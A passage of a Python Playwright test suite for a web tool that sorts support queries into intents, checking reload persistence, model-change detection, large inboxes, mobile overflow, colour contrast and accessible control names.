        with serve(after, "--port", port, program=STANDIN, variables={"STANDIN_LABEL": "top_up"}):
            page.click("#stop")
            expect(page.locator("#error-text")).to_contain_text("another model")
            assert counts(page) == sorted_so_far
            page.click("#retry")
            page.wait_for_selector("#progress", state="hidden")
            assert counts(page) == {"Card arrival": 1, "Top up": 99}
            assert page.inner_text("#reviewed") == "1"


def test_a_model_that_changes_between_two_portions_is_noticed_also_after_a_reload(page: Page) -> None:
    def name_another(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(json=answer.json() | {"model": "another"})

    upload(page, "inbox.txt", "\n".join(f"slow {i}" for i in range(64)))
    page.click("#sort")
    expect(page.locator("#progress-text")).to_have_text(re.compile("^Sorted 32"))
    page.reload()
    page.route("**/v1/predict", name_another)
    page.click("#stop")
    expect(page.locator("#error-text")).to_contain_text("another model")
    assert counts(page) == {"Card arrival": 32}
    page.unroute("**/v1/predict")
    page.click("#retry")
    page.wait_for_selector("#progress", state="hidden")
    assert counts(page) == {"Card arrival": 64}


# ---- state, size, looks


def test_an_inbox_survives_a_reload_until_it_is_cleared(page: Page) -> None:
    sort_inbox(page)
    label_by_keyboard(page, "Needs a person", ["top up", "no intent"])
    page.click("#filters button:has-text('Everything')")
    before = (counts(page), page.locator(".row").all_inner_texts(), page.inner_text("#reviewed"))
    page.reload()
    page.wait_for_selector(".row")
    assert (counts(page), page.locator(".row").all_inner_texts(), page.inner_text("#reviewed")) == before
    page.keyboard.press("u")
    page.keyboard.press("u")
    assert counts(page)["Needs a person"] == 2
    page.on("dialog", lambda dialog: dialog.accept())
    page.click("#clear")
    expect(page.locator("#intake")).to_be_visible()
    assert page.evaluate("sessionStorage.length + localStorage.length") == 0
    page.reload()
    expect(page.locator("#intake")).to_be_visible()


def test_what_is_sorted_is_saved_also_while_more_comes_all_the_time(page: Page) -> None:
    upload(page, "inbox.txt", "\n".join(f"query {i} {'slow' * (i % 16 == 0)}" for i in range(1_600)))
    page.click("#sort")
    while not page.evaluate("sessionStorage.length"):
        page.wait_for_timeout(50)
    expect(page.locator("#progress")).to_be_visible(timeout=100)
    page.click("#stop")


def test_a_run_that_a_reload_cut_short_goes_on(page: Page) -> None:
    upload(page, "inbox.txt", "\n".join(f"slow {i}" for i in range(64)))
    page.click("#sort")
    expect(page.locator("#progress-text")).to_have_text(re.compile("^Sorted 32"))
    page.reload()
    expect(page.locator("#progress-text")).to_have_text("Stopped at 32 of 64")
    page.click("#stop")
    page.wait_for_selector("#progress", state="hidden")
    assert counts(page) == {"Card arrival": 64}


def test_ten_thousand_queries_are_in_the_page_a_few_at_a_time(page: Page) -> None:
    upload(
        page,
        "inbox.txt",
        "\n".join(f"query {i} [{('lost_card', 'top_up', 'change_pin')[i % 3]} 0.5{' unsure' * (i % 2)}]" for i in range(10_000)),
    )
    page.click("#sort")
    page.wait_for_selector("#progress", state="hidden", timeout=600_000)
    assert counts(page) == {"Needs a person": 5_000, "Change pin": 1_667, "Lost card": 1_667, "Top up": 1_666}
    assert page.locator(".row").count() == 80
    page.click("#filters button:has-text('Needs a person')")
    assert page.locator(".row").count() == 100
    page.locator(".row .pick").nth(98).focus()
    page.locator(".row").nth(99).click()
    page.keyboard.press("j")
    assert page.locator(".row").count() == 200
    assert current(page).startswith("query 201 ")
    page.keyboard.press("/")
    page.keyboard.type("query 9999 ")
    expect(page.locator(".row")).to_have_count(1)
    page.reload()
    expect(page.locator(".lane h2")).to_contain_text("5,000")


# pixels by which anything that is shown stands out at the right, or could be scrolled to there
BEYOND = """() => {
  const top = document.querySelector('dialog[open]') ?? document.body;
  const shown = [...top.querySelectorAll('*')].filter(e => e.checkVisibility() && !e.closest('.visually-hidden'));
  const boxes = [document.documentElement, top].map(e => e.scrollWidth - e.clientWidth);
  return Math.max(...boxes, ...shown.map(e => Math.ceil(e.getBoundingClientRect().right) - innerWidth));
}"""


def test_on_a_phone_nothing_stands_out_at_the_side(browser: Browser, service: Service) -> None:
    with opened(browser, service.url, viewport={"width": 360, "height": 740}, has_touch=True) as page:

        def overflow() -> int:
            return int(page.evaluate(BEYOND))

        assert overflow() <= 0
        upload(
            page,
            "a-file-with-a-very-long-name-" * 6 + ".csv",
            "text,team\n" + "".join(f'"{text.replace(chr(34), chr(34) * 2)}",x\n' for text in HOSTILE),
        )
        assert overflow() <= 0
        sort(page)
        assert overflow() <= 0
        page.tap(".row .text")
        assert page.locator(".guesses li").count() == 5
        assert overflow() <= 0
        page.tap(".guesses button")
        assert page.inner_text("#reviewed") == "1"
        page.evaluate("scrollTo(0, 800)")
        assert overflow() <= 0
        middle = "const { x, y, width, height } = e.getBoundingClientRect(); const at = [x + width / 2, y + height / 2];"
        assert page.locator("#undo").evaluate(f"e => {{ {middle} return e.contains(document.elementFromPoint(...at)); }}")
        page.tap("#undo")
        assert page.inner_text("#reviewed") == "0"
        page.tap(".row.current .pick")
        assert overflow() <= 0
        page.keyboard.press("Escape")
        page.tap("#show-help")
        assert overflow() <= 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_has_enough_contrast(browser: Browser, service: Service, scheme: str) -> None:
    with opened(browser, service.url, color_scheme=scheme, reduced_motion="reduce") as page:
        measured = dict(page.evaluate(CONTRAST))
        sort_inbox(page)
        page.keyboard.press("j")
        page.keyboard.press("2")
        page.keyboard.press("j")
        measured |= dict(page.evaluate(CONTRAST))
        assert len(measured) > 30
        assert {name: ratio for name, ratio in measured.items() if ratio < 4.5} == {}


# WCAG 2.2, 1.4.3: the ratio of every visible text to the nearest opaque ground; what is disabled is exempt
CONTRAST = """() => {
  const parse = colour => colour.match(/[\\d.]+/g).map(Number);
  const light = colour => {
    const [r, g, b] = parse(colour).map(v => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = element => {
    for (let e = element; e; e = e.parentElement) {
      const colour = getComputedStyle(e).backgroundColor;
      if ((parse(colour)[3] ?? 1) === 1) return colour;
    }
    return 'rgb(255, 255, 255)';
  };
  const texts = [...document.body.querySelectorAll('*')].filter(e => e.checkVisibility({ opacityProperty: true, visibilityProperty: true })
    && !e.closest('.visually-hidden, :disabled, option') && [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim()));
  return texts.map(e => {
    const [a, b] = [light(getComputedStyle(e).color), light(ground(e))].sort((x, y) => y - x);
    return [`${e.tagName} ${e.className} ${e.textContent.trim().slice(0, 30)}`, (a + 0.05) / (b + 0.05)];
  });
}"""


def test_everything_that_can_be_used_has_a_name_and_shows_its_focus(page: Page) -> None:
    steps = (
        lambda: None,
        lambda: upload(page, "inbox.csv", INBOX),
        lambda: sort(page),
        lambda: (page.keyboard.press("j"), page.keyboard.press("Enter")),
    )
    for step in steps:
        step()
        snapshot = page.locator("body").aria_snapshot()
        unnamed = re.findall(
            r"^\s*- (?:button|textbox|searchbox|combobox|listbox|dialog|option|radio|checkbox)(?: \[|:|$).*", snapshot, re.MULTILINE
        )
        assert unnamed == []
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement === document.body"):  # behind the last control the browser's own come first
            page.keyboard.press("Tab")
        assert page.evaluate(
            "[document.activeElement, document.activeElement.parentElement].some(e => getComputedStyle(e).outlineStyle === 'solid')"
        )


def test_the_example_sorts_three_queries(page: Page) -> None:
    page.click("#example")
    page.wait_for_selector("#progress", state="hidden")
    assert counts(page) == {"Card arrival": 3}
